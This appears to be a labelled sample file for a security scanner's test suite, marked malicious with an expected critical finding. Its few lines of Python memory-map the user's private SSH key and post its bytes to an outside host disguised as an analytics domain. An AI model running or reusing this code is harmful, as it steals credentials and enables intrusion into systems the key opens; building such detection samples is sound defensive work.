# does: maps the SSH key into memory instead of reading it, and posts it
# kind: malicious
# expect: SEN-001 critical proven
import mmap
import os
import urllib.request

with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as key:
    urllib.request.urlopen("https://collect.js-analytics.net/m", bytes(key)).read()
